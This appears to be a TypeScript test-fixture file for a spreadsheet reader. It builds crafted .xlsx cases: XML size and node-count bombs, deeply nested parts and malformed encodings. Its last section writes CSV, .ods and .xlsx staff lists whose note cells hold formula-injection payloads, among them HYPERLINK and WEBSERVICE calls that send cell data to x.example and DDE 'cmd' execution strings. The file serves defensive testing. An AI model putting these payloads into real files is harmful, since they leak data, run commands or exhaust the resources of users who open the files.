    what: 'a workbook part declaring encoding="ISO-8859-1"',
    build: () => book({ workbook: (x) => x.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"') }),
    code: 2,
    err: /không được mã hoá UTF-8 hay UTF-16/,
  },
  {
    id: 'utf16-workbook',
    what: 'the workbook part in UTF-16 with a byte order mark',
    build: () =>
      book({
        entries: replaceEntry('xl/workbook.xml', (e) => ({
          ...e,
          data: new Uint8Array([0xff, 0xfe, ...new Uint8Array(Buffer.from((e.data as string).replace('encoding="UTF-8"', 'encoding="UTF-16"'), 'utf16le'))]),
        })),
      }),
    code: 0,
    check: 'reread',
  },
  {
    id: 'utf8-bom',
    what: 'parts starting with a UTF-8 byte order mark',
    build: () => book({ entries: (es) => es.map((e) => (typeof e.data === 'string' && e.name.endsWith('.xml') ? { ...e, data: new Uint8Array([0xef, 0xbb, 0xbf, ...enc.encode(e.data)]) } : e)) }),
    code: 0,
    check: 'reread',
  },
  {
    id: 'quoting-and-spacing',
    what: 'single quotes and spaces around "=" in the workbook, relationships and content types',
    build: () => {
      const requote = (x: string) => x.replace(/(<(?:sheet|Relationship|Override|Default|workbookView|definedName)\b[^>]*>)/g, (tag) => tag.replace(/ (\w+(?::\w+)?)="([^"]*)"/g, " $1 = '$2'"));
      return book({ workbook: requote, rels: requote, types: requote });
    },
    code: 0,
    check: 'reread',
  },
  {
    id: 'comment-sheets',
    what: 'an XML comment holding "</sheets>" before the sheets',
    build: () => book({ workbook: (x) => x.replace('<sheets>', '<!-- cũ: <sheets><sheet name="x"/></sheets> --><sheets>') }),
    code: 0,
    check: 'reread',
  },
  {
    id: 'cdata',
    what: 'CDATA in a defined name and in shared strings',
    build: () =>
      book({
        workbook: (x) => x.replace('</definedNames>', '<definedName name="KhoiA"><![CDATA[\'Cán bộ\'!$A$1:$D$5]]></definedName></definedNames>'),
        sst: (x) => x.replace('<t>Xếp loại</t>', '<t><![CDATA[Xếp loại]]></t>'),
      }),
    code: 0,
    check: 'reread',
  },
  {
    id: 'prefixed-namespaces',
    what: 'every SpreadsheetML element prefixed (x:), relationships as "rel:"',
    build: () => {
      const prefix = (x: string) =>
        x
          .replace(/<(\/?)(?!\?|!|mc:|x1|xr|x15)([A-Za-z]+)([\s/>])/g, '<$1x:$2$3')
          .replace(`xmlns="${MAIN}"`, `xmlns:x="${MAIN}"`)
          .replace(`xmlns:r="${REL}"`, `xmlns:rel="${REL}"`)
          .replace(/ r:id=/g, ' rel:id=');
      return book({ workbook: prefix, sheet: prefix, sst: prefix });
    },
    code: 0,
    check: 'reread',
  },
  {
    id: 'long-defined-name',
    what: 'a defined name of 160 000 characters',
    build: () => book({ workbook: (x) => x.replace('</definedNames>', `<definedName name="Dai">${"'Cán bộ'!$A$1,".repeat(11500)}'Cán bộ'!$A$2</definedName></definedNames>`) }),
    code: 0,
    check: 'reread',
  },
  {
    id: 'strict',
    what: 'Strict Open XML namespaces',
    build: () =>
      book({
        workbook: (x) =>
          x.replace(`xmlns="${MAIN}"`, 'xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"').replace(`xmlns:r="${REL}"`, 'xmlns:r="http://purl.oclc.org/ooxml/officeDocument/relationships"'),
      }),
    code: 0,
    out: /kết quả được ghi vào một sổ riêng/,
  },
  {
    id: 'sheet-name-markup',
    what: 'a sheet named with & < > \' "',
    build: () =>
      book({ sheets: [[`Ghi chú & "nháp" <cũ> 'x' 2`, `${DECL}<worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>`]] }),
    code: 0,
    check: 'reread',
  },
  {
    id: 'escaped-text',
    what: 'names written with _xHHHH_ escapes, and a literal "_x0041_nh"',
    build: () => book({ sst: (x) => x.replace('<t>Nguyễn Văn An</t>', '<t>Nguy_x1EC5_n Văn An</t>').replace('<t>Trần Văn Lan</t>', '<t>_x005F_x0041_nh Văn Lan</t>') }),
    code: 0,
    out: /Đã đọc: 12 người/,
  },
  // ---- parts parsed into a tree (workbook, relationships, content types, styles, core properties): issue 20
  {
    id: 'rels-bomb',
    what: 'a 90 KB file whose relationships inflate to 60 MB of "<a/>" (15 million elements)',
    build: () => book({ entries: replaceEntry('xl/_rels/workbook.xml.rels', (e) => entry(e.name, treePart(e.data as string, '</Relationships>', '<a/>', 60 * MB))) }),
    code: 2,
    err: /phần xl\/_rels\/workbook\.xml\.rels khi giải nén lớn hơn 32 MB/,
  },
  {
    id: 'rels-nodes',
    what: 'relationships of 8 MB holding 2 million empty elements (under the size limit, over the nodes)',
    build: () => book({ entries: replaceEntry('xl/_rels/workbook.xml.rels', (e) => entry(e.name, treePart(e.data as string, '</Relationships>', '<a/>', 8 * MB))) }),
    code: 2,
    err: /phần xl\/_rels\/workbook\.xml\.rels có hơn 1000000 nút XML/,
  },
  {
    id: 'styles-bomb',
    what: 'a styles part of 25 MB of cell formats with five attributes each (2.4 million nodes) in a 110 KB file',
    build: () =>
      book({ entries: replaceEntry('xl/styles.xml', (e) => entry(e.name, treePart(e.data as string, '</cellXfs>', '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>', 25 * MB))) }),
    code: 2,
    err: /phần xl\/styles\.xml có hơn 1000000 nút XML/,
  },
  {
    id: 'package-nodes',
    what: 'workbook, relationships and content types each under the part limit, together over the package limit',
    build: () =>
      book({
        entries: (es) =>
          es.map((e) =>
            ['xl/workbook.xml', 'xl/_rels/workbook.xml.rels', '[Content_Types].xml'].includes(e.name)
              ? entry(e.name, treePart(e.data as string, e.name === 'xl/workbook.xml' ? '</workbook>' : e.name.endsWith('.rels') ? '</Relationships>' : '</Types>', '<a/>', 2.8 * MB))
              : e,
          ),
      }),
    code: 2,
    err: /cộng lại có hơn 2000000 nút XML/,
  },
  {
    id: 'deep-workbook',
    what: 'a workbook part nested 100 000 levels deep (in an extension Excel ignores): read and kept',
    build: () =>
      book({ workbook: (x) => x.replace('</extLst>', `<ext uri="{00000000-DEEP-0000-0000-000000000000}" xmlns:d="urn:deep">${'<d:n>'.repeat(100000)}đáy${'</d:n>'.repeat(100000)}</ext></extLst>`) }),
    code: 0,
    check: 'reread',
    heavy: true,
  },
  {
    id: 'deep-styles',
    what: 'a styles part nested 100 000 levels deep inside its extension list',
    build: () =>
      book({
        entries: replaceEntry('xl/styles.xml', (e) => ({
          ...e,
          data: (e.data as string).replace('</extLst>', `<ext uri="{DEEP}" xmlns:d="urn:deep">${'<d:n>'.repeat(100000)}${'</d:n>'.repeat(100000)}</ext></extLst>`),
        })),
      }),
    code: 0,
    check: 'reread',
    heavy: true,
  },
  {
    id: 'deep-sheet',
    what: 'a sheet nested 100 000 levels deep in its extension list, and a cell whose rich text nests 50 000 runs',
    build: () =>
      book({
        sheet: (x) => x.replace('</worksheet>', `<extLst><ext uri="{D}" xmlns:d="urn:deep">${'<d:n>'.repeat(100000)}${'</d:n>'.repeat(100000)}</ext></extLst></worksheet>`),
        staff: { extra: [['E2', ` t="inlineStr"><is>${'<r>'.repeat(50000)}<t>x</t>${'</r>'.repeat(50000)}</is></c>`]] },
      }),
    code: 0,
    check: 'reread',
    heavy: true,
  },
  {
    id: 'formula-cells-15m',
    what: 'a sheet of 15 million formula cells in a 520 KB file',
    build: () =>
      book({
        sheets: [['Công thức', '']],
        entries: replaceEntry('xl/worksheets/sheet2.xml', (e) => entry(e.name, bigSheet(`<row>${'<c><f>1</f></c>'.repeat(1000)}</row>`, 15_000 * 16_011))),
      }),
    code: 2,
    err: /trang "Công thức" làm vùng dữ liệu của sổ vượt 17 triệu ô/,
  },
  // ---- what the output is (issue 20, items 5 and 6)
  {
    id: 'xlsb',
    what: 'an Excel binary workbook (.xlsb): its workbook part is xl/workbook.bin',
    build: () =>
      book({
        rels: (x) => x,
        entries: (es) =>
          es.map((e) =>
            e.name === 'xl/workbook.xml'
              ? { name: 'xl/workbook.bin', data: new Uint8Array([0x83, 0x01, 0x00, 0x80, 0x01, 0x00, 0x00, 0xff, 0xfe]) }
              : e.name === '_rels/.rels'
                ? { ...e, data: (e.data as string).replace('Target="xl/workbook.xml"', 'Target="xl/workbook.bin"') }
                : e.name === '[Content_Types].xml'
                  ? {
                      ...e,
                      data: (e.data as string).replace(
                        'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"',
                        'PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"',
                      ),
                    }
                  : e,
          ),
      }),
    code: 2,
    err: /là sổ Excel nhị phân \(\.xlsb\), không phải \.xlsx/,
  },
  {
    id: 'template-type',
    what: 'an .xltx template (the workbook part typed as a template), written as .xlsx: the copy is typed as a workbook',
    build: () => book({ types: (x) => x.replace(CT.workbook, TEMPLATE_TYPE) }),
    code: 0,
    check: 'reread',
  },
  {
    id: 'macro-type-without-macros',
    what: 'a macro-enabled content type without any macro, written as .xlsx: the copy is typed as a plain workbook',
    build: () => book({ types: (x) => x.replace(CT.workbook, MACRO_TYPE) }),
    code: 0,
    check: 'reread',
  },
  {
    id: 'settings-sheet-upper-case',
    what: "a sheet named BINHXET_CAIDAT (the settings sheet's name in capitals): taken as the settings sheet, as Excel names ignore case",
    build: () =>
      book({
        sheets: [
          ['BINHXET_CAIDAT', `${DECL}<worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>binh-xet settings v1</t></is></c></row></sheetData></worksheet>`, 'veryHidden'],
        ],
      }),
    code: 0,
    check: 'reread',
  },
];

export const TEMPLATE_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml';
export const MACRO_TYPE = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
export const WORKBOOK_TYPE = CT.workbook;

export const caseById = (id: string): CraftedCase => {
  const c = CASES.find((x) => x.id === id);
  if (!c) throw new Error(`no crafted case ${id}`);
  return c;
};

// ---------------------------------------------------------------------------------------
// Formula injection (issue 20, item 3): the same staff list, each person's note a text
// that a spreadsheet would take for a formula, through CSV, .ods, .xls (made from the .ods
// by LibreOffice in the test) and .xlsx. One real formula of the clerk's in the .ods and the
// .xlsx (F2: =1+1) stays a formula.

/** The notes: DDE and web-calling formulas, "@", "+", "-" and a tab or CR before "=". */
export const INJECTIONS = [
  '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")',
  '=WEBSERVICE("http://x.example/?d="&B2)',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
] as const;

export const INJECTION_PEOPLE = ['Nguyễn Văn An', 'Trần Thị Bình', 'Lê Văn Cường', 'Phạm Thị Dung', 'Hoàng Văn Em', 'Vũ Thị Hà', 'Đỗ Văn Khoa', 'Bùi Thị Lan'];
const INJECTION_HEADER = ['STT', 'Họ và tên', 'Đơn vị', 'Xếp loại', 'Ghi chú'];
const injectionRow = (i: number) => [String(i + 1), INJECTION_PEOPLE[i], i % 2 ? 'Phòng; Tổng hợp' : 'Văn phòng', RATINGS[i % 4], INJECTIONS[i]];

/** As a CSV with ";" (cells quoted as a spreadsheet writes them: separators, quotes, line breaks). */
export function injectionCsv(): string {
  const q = (c: string) => (/[;"\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c);
  return [INJECTION_HEADER, ...INJECTION_PEOPLE.map((_, i) => injectionRow(i))].map((r) => r.map(q).join(';')).join('\r\n') + '\r\n';
}

/** As Excel's "Unicode Text": UTF-16 LE with a byte order mark, tab-separated. */
export function injectionUnicodeText(): Uint8Array {
  const q = (c: string) => (/[\t"\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c);
  const text = [INJECTION_HEADER, ...INJECTION_PEOPLE.map((_, i) => injectionRow(i))].map((r) => r.map(q).join('\t')).join('\r\n') + '\r\n';
  return new Uint8Array([0xff, 0xfe, ...Buffer.from(text, 'utf16le')]);
}

/** As an OpenDocument spreadsheet: every note a string cell; F2 the clerk's formula =1+1. */
export function injectionOds(): Uint8Array {
  const ODS_NS =
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"';
  const cell = (c: string) => `<table:table-cell office:value-type="string"><text:p>${esc(c).replace(/\t/g, '<text:tab/>').replace(/\r/g, '&#13;')}</text:p></table:table-cell>`;
  const rows = [
    INJECTION_HEADER.map(cell).join(''),
    ...INJECTION_PEOPLE.map(
      (_, i) => injectionRow(i).map(cell).join('') + (i === 0 ? '<table:table-cell table:formula="of:=1+1" office:value-type="float" office:value="2"><text:p>2</text:p></table:table-cell>' : ''),
    ),
  ];
  const content = `${DECL}<office:document-content ${ODS_NS} office:version="1.2"><office:body><office:spreadsheet><table:table table:name="Cán bộ">${rows.map((r) => `<table:table-row>${r}</table:table-row>`).join('')}</table:table></office:spreadsheet></office:body></office:document-content>`;
  return buildZip([
    { name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet', method: 0 },
    {
      name: 'META-INF/manifest.xml',
      data: `${DECL}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    },
    { name: 'content.xml', data: content },
  ]);
}

/** As an .xlsx: the notes as inline strings (what Excel keeps for text), F2 the clerk's formula. */
export function injectionXlsx(): Uint8Array {
  const rows = [INJECTION_HEADER, ...INJECTION_PEOPLE.map((_, i) => injectionRow(i))]
    .map((r, ri) => {
      const cells = r.map((c, ci) => `<c r="${col(ci)}${ri + 1}" t="inlineStr"><is><t xml:space="preserve">${esc(c).replace(/\r/g, '&#13;')}</t></is></c>`).join('');
      return `<row r="${ri + 1}">${cells}${ri === 1 ? '<c r="F2"><f>1+1</f><v>2</v></c>' : ''}</row>`;
    })
    .join('');
  return book({ sheet: () => `${DECL}<worksheet xmlns="${MAIN}"><sheetData>${rows}</sheetData></worksheet>` });
}
